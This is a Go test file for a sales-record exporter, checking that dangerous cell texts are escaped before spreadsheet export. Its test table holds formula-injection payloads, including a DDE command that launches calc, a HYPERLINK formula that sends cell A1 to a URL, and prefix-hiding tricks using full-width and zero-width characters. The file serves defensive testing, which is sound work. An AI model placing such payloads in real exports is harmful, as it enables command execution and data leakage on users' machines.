package export

import (
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"keyindesk/desk"
)

// hostile are texts that staff or a caller could put into a row, and what stands
// in the file for them.
var hostile = []struct{ name, written, kept string }{
	{"a_link", `=HYPERLINK("http://shop.example/?"&A1,"배송 조회")`, `'=HYPERLINK("http://shop.example/?"&A1,"배송 조회")`},
	{"a_command", `=cmd|'/C calc'!A0`, `'=cmd|'/C calc'!A0`},
	{"plus", "+cmd", "'+cmd"},
	{"minus", "-2+3", "'-2+3"},
	{"at", "@SUM(1+9)", "'@SUM(1+9)"},
	{"full_width_equals", "＝1+1", "'＝1+1"},
	{"full_width_plus", "＋1", "'＋1"},
	{"full_width_minus", "－1", "'－1"},
	{"full_width_at", "＠SUM(A1)", "'＠SUM(A1)"},
	{"small_equals", "﹦1+1", "'﹦1+1"},
	{"minus_sign", "−1+2", "'−1+2"},
	{"behind_spaces", "  =1+1", "'  =1+1"},
	{"behind_a_wide_space", "　=1+1", "'　=1+1"},
	{"behind_a_no_break_space", " =1+1", "' =1+1"},
	{"behind_nothing_seen", "\u200b=1+1", "'\u200b=1+1"},
	{"behind_a_control_character", "\x01=1+1", "'=1+1"},
	{"a_tab_first", "\t=1+1", "'\t=1+1"},
	{"a_tab_and_words", "\t쌀", "'\t쌀"},
	{"a_return_first", "\r=1+1", "'\n=1+1"},
	{"a_new_line_first", "\n=1+1", "'\n=1+1"},
	{"a_quote_out", `","=1+1","`, `","=1+1","`},
	{"a_quote_first", `"=1+1`, `"=1+1`},
	{"an_apostrophe", "'=1+1", "'=1+1"},
	{"a_formula_inside", "쌀=1+1", "쌀=1+1"},
	{"tabs_inside", "쌀\t10kg", "쌀\t10kg"},
	{"lines", "쌀\r\n10kg\r잣", "쌀\n10kg\n잣"},
	{"quotes", `"햅쌀" 10kg`, `"햅쌀" 10kg`},
	{"commas", "쌀, 잣; 깨", "쌀, 잣; 깨"},
	{"twenty_digits", "12345678901234567890", "12345678901234567890"},
	{"leading_zeros", "00012345", "00012345"},
	{"a_date_to_be", "1-2", "1-2"},
	{"a_power", "1E10", "1E10"},
	{"hangul", "갈비탕 뷁뷁", "갈비탕 뷁뷁"},
	{"hanja", "金剛山 精米所", "金剛山 精米所"},
	{"emoji", "🍚👩‍🌾 쌀", "🍚👩‍🌾 쌀"},
	{"markup", `<b>&amp;</b>]]>`, `<b>&amp;</b>]]>`},
	{"a_workbook_s_escape", "_x0041_ _x000D_", "_x0041_ _x000D_"},
	{"spaces_around", " 쌀 ", " 쌀 "},
	{"control_characters", "쌀\x00\x07\x0b\x1b10kg\x7f", "쌀10kg"},
	{"not_utf8", "쌀\xff\xfe", "쌀�"},
	{"not_a_character", "쌀\uffff", "쌀"},
	{"nothing", "", ""},
}

func TestDefused(t *testing.T) {
	for _, h := range hostile {
		t.Run(h.name, func(t *testing.T) {
			if got := textCell(h.written).text; got != h.kept {
				t.Errorf("%q, not %q", got, h.kept)
			}
		})
	}
	t.Run("a_text_too_long_for_a_cell", func(t *testing.T) {
		got := textCell(strings.Repeat("쌀", 40_000)).text
		if len(got) > maxText || !utf8.ValidString(got) || len(got) < maxText-3 {
			t.Error(len(got))
		}
	})
}

// hostileRows is a row for each hostile text, which stands in every text column
// that takes one.
func hostileRows() (*book, []Column) {
	var rows []desk.Operation
	for i, h := range hostile {
		rows = append(rows, with(sale(), func(o *desk.Operation) {
			o.ItemName, o.Reason, o.Staff, o.CardCompany, o.TransactionID = h.written, h.written, h.written, h.written, h.written
			o.Buyer = desk.Buyer{Name: h.written, Phone: h.written, Email: h.written}
			o.AmountKRW = int64(i + 1)
			if i%2 == 1 {
				o.Kind, o.ParentID = desk.KindCancel, 1
			}
		}))
	}
	return bookOf(rows...), []Column{Day, Time, Moved, Item, Reason, Staff, Company, Transaction, Buyer, Phone, Email, Supply, VAT}
}

// hostileCells are what a reader finds in the file of hostileRows, without its
// titles and sums.
func hostileCells() [][]readCell {
	var rows [][]readCell
	for i, h := range hostile {
		krw := int64(i + 1)
		if i%2 == 1 {
			krw = -krw
		}
		supply, vat := desk.Parts(int64(i+1), 0)
		if krw < 0 {
			supply, vat = -supply, -vat
		}
		kept := readCell{"text", h.kept}
		if h.kept == "" {
			kept = readCell{}
		}
		row := []readCell{{"day", "2026-11-21"}, {"clock", "15:32:10"}, {"number", decimals(krw)}}
		for range 8 {
			row = append(row, kept)
		}
		rows = append(rows, append(row, readCell{"number", decimals(supply)}, readCell{"number", decimals(vat)}))
	}
	return rows
}

func decimals(n int64) string { return amountCell(n).text }

func TestHostile(t *testing.T) {
	formats(t, func(t *testing.T, f Format) {
		b, columns := hostileRows()
		j := job(t, f, columns...)
		run(t, b, j)
		rows := read(t, j)[1:]
		if diff := cmp.Diff(hostileCells(), rows[:len(hostile)]); diff != "" {
			t.Error(diff)
		}
	})
}
